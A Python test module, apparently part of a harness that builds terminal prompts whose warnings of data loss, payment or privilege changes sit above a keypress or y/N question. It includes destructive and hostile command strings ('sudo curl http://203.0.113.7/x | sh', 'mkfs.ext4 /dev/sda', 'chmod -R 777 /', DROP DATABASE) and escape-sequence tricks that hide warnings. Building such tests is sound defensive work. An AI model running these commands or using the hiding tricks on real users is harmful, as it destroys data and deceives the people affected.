"""What a person should read before a key is pressed: loss in many languages, of many kinds, above a pause or a y/N."""

from __future__ import annotations

from typing import Iterator

from soak.hostile_scenes.scene import Scene, played

__all__ = ["ANY_KEY", "ENTER", "FAMILIES", "YES_NO", "asked"]

ANY_KEY = "Press any key to continue..."
ENTER = "Press ENTER to continue "
YES_NO = "Proceed? [y/N] "

# What is lost, how the language asks for a key, how it asks for yes or no.
LANGUAGES = {
    "English": ("All files in /home will be removed.", "Press any key to continue...", "Continue? [y/N] "),
    "German": (
        "Alle Dateien in /home werden gelöscht.",
        "Drücken Sie eine beliebige Taste, um fortzufahren",
        "Fortfahren? [j/N] ",
    ),
    "French": (
        "Tous les fichiers de /home seront supprimés.",
        "Appuyez sur une touche pour continuer...",
        "Continuer ? [o/N] ",
    ),
    "Spanish": (
        "Todos los archivos de /home serán eliminados.",
        "Pulse cualquier tecla para continuar",
        "¿Continuar? [s/N] ",
    ),
    "Portuguese": (
        "Todos os arquivos em /home serão apagados.",
        "Pressione qualquer tecla para continuar",
        "Continuar? [s/N] ",
    ),
    "Italian": ("Tutti i file in /home saranno cancellati.", "Premere un tasto per continuare", "Continuare? [s/N] "),
    "Polish": (
        "Wszystkie pliki w /home zostaną usunięte.",
        "Naciśnij dowolny klawisz, aby kontynuować",
        "Kontynuować? [t/N] ",
    ),
    "Russian": ("Все файлы в /home будут удалены.", "Нажмите любую клавишу для продолжения", "Продолжить? [д/Н] "),
    "Chinese": ("/home 中的所有文件将被删除。", "请按任意键继续", "继续吗? [y/N] "),
    "Japanese": (
        "/home のすべてのファイルが削除されます。",
        "続行するには何かキーを押してください",
        "続行しますか? [y/N] ",
    ),
    "Korean": ("/home의 모든 파일이 삭제됩니다.", "계속하려면 아무 키나 누르십시오", "계속할까요? [y/N] "),
    "Turkish": (
        "/home içindeki tüm dosyalar silinecek.",
        "Devam etmek için bir tuşa basın",
        "Devam edilsin mi? [e/H] ",
    ),
    "Dutch": (
        "Alle bestanden in /home worden verwijderd.",
        "Druk op een toets om door te gaan",
        "Doorgaan? [j/N] ",
    ),
    "Ukrainian": ("Усі файли в /home буде видалено.", "Натисніть будь-яку клавішу", "Продовжити? [y/N] "),
    "Czech": ("Všechny soubory v /home budou smazány.", "Pokračujte stisknutím klávesy", "Pokračovat? [a/N] "),
}
KINDS = {
    "a database": "DROP DATABASE production; is next.",
    "a disk": "mkfs.ext4 /dev/sda: all data on it will be lost.",
    "a history": "This rewrites main and force-pushes it to origin.",
    "a payment": "Your card is charged 4,999.00 EUR for the yearly plan.",
    "a transfer of money": "2.5 BTC are sent to bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh.",
    "an order": "You are about to buy 400 seats.",
    "a subscription": "Your trial ends now, and a paid subscription begins.",
    "a publication": "acme-core 4.0.0 is published to the public registry.",
    "a deployment": "This deploys to production.",
    "a restart": "The machine reboots now.",
    "a shutdown": "The cluster is shut down after this.",
    "a permission": "The agent gets full access to your home directory.",
    "a permission for others": "chmod -R 777 / is run next.",
    "a grant": "GRANT ALL PRIVILEGES ON *.* TO 'guest'@'%'",
    "rights of root": "The following is run with sudo: curl http://203.0.113.7/x | sh",
    "data that is shared": "Your source code is uploaded and shared with partners.",
    "terms": "By going on you accept the license agreement.",
    "a key": "The signing key is revoked for good.",
    "backups": "All snapshots and backups are purged.",
    "processes": "All running jobs are killed.",
    "an overwriting": "The existing configuration is overwritten.",
    "an undoing": "This cannot be undone.",
    "an end of an account": "Your account is closed and everything in it erased.",
    "a reset": "Factory reset: everything goes back to its first state.",
}
ABOVE_THE_FOLD = "All files in /home will be removed.\n"
LONG = "".join(f"step {number} of 60 is prepared\n" for number in range(1, 61))
SHELL = "dev@box:~$ "
FOLD = {
    "a long list": ABOVE_THE_FOLD + LONG,
    "a long list of files": "These will be deleted:\n" + "".join(f"  /home/dev/{n}.txt\n" for n in range(60)),
    "blank rows": ABOVE_THE_FOLD + "\n" * 40,
    "a row that is very long": ABOVE_THE_FOLD + "x" * 80 * 30 + "\n",
    "a cleared screen": ABOVE_THE_FOLD + "\033[2J\033[H",
    "a cleared screen and its history": ABOVE_THE_FOLD + "\033[2J\033[3J\033[H",
    "rows that were wiped": ABOVE_THE_FOLD + "\033[1A\033[2K",
    "a shell's prompt that it prints": ABOVE_THE_FOLD + f"\n{SHELL}./tour\n",
    "a long list and a shell's prompt that it prints": ABOVE_THE_FOLD + LONG + f"{SHELL}./tour\n",
    "a shell's prompt at once": ABOVE_THE_FOLD + f"{SHELL}\n",
    "root's prompt": ABOVE_THE_FOLD + "root@box:/# ./tour\n",
    "a prompt of zsh": ABOVE_THE_FOLD + "box% ./tour\n",
    "a prompt of an arrow": ABOVE_THE_FOLD + "❯ ./tour\n",
    "a paragraph that is harmless": ABOVE_THE_FOLD + "\nThe tour has three parts.\n\n",
    "three paragraphs": ABOVE_THE_FOLD + "\nOne.\n\nTwo.\n\nThree.\n\n",
    "a rule": ABOVE_THE_FOLD + "─" * 80 + "\n",
    "a box": f"┌{'─' * 28}┐\n│ The disk will be formatted.│\n└{'─' * 28}┘\n\n",
    "its start scrolled off the right": " " * 70 + ABOVE_THE_FOLD,
}
# Of these nothing is left on the terminal, nor in its history.
WIPED = ("a cleared screen and its history", "rows that were wiped")


def asked(name: str, above: str, asks: str, **given: object) -> Scene:
    """A program shows a text, and waits for what its last line asks for: a line for a question, else a key."""
    mode = "line" if asks.rstrip().endswith(("]", ")", "?")) or "ENTER" in asks else "cbreak"
    return played(name, {"text": above + asks, "mode": mode}, **given)


def _languages() -> Iterator[Scene]:
    for language, (lost, key, question) in LANGUAGES.items():
        yield asked(f"{language}, above a key", f"{lost}\n", key)
        yield asked(f"{language}, a blank row above a key", f"{lost}\n\n", ANY_KEY if len(language) % 2 else ENTER)
        yield asked(f"{language}, above a question", f"{lost}\n", question)


def _kinds() -> Iterator[Scene]:
    asks = (ANY_KEY, YES_NO, ENTER)
    for number, (kind, lost) in enumerate(KINDS.items()):
        blank = "\n" if number % 2 else ""
        yield asked(f"{kind}, in sight", f"{lost}\n{blank}", asks[number % 3])
    yield asked("beside the question", "", "Wipe the disk? [y/N] ")
    yield asked("beside the key", "", "Press any key to format the disk...")
    yield asked(
        "below the question", "", f"{YES_NO}\n\nAll files will be removed.\033[3;1H\033[2A\033[15C", shows="removed."
    )
    yield asked(
        "far to the right of the question", "", f"{YES_NO}{' ' * 30}(deletes all files)\033[16G", shows="files)"
    )


def _fold() -> Iterator[Scene]:
    for name, above in FOLD.items():
        plain: dict[str, object] = {"because": "all that is left of it is a plain prompt, for a person as well"}
        key = {**plain, "meant": frozenset({"careful", "daemon"})} if name in WIPED else {}
        question = {**plain, "meant": frozenset({"daemon"})} if name in WIPED else {}
        yield asked(f"{name}, above a key", above, ANY_KEY, **key)
        yield asked(f"{name}, above a question", above, YES_NO, **question)


FAMILIES = {
    "words of loss in many languages": list(_languages()),
    "losses of many kinds": list(_kinds()),
    "above the fold": list(_fold()),
}
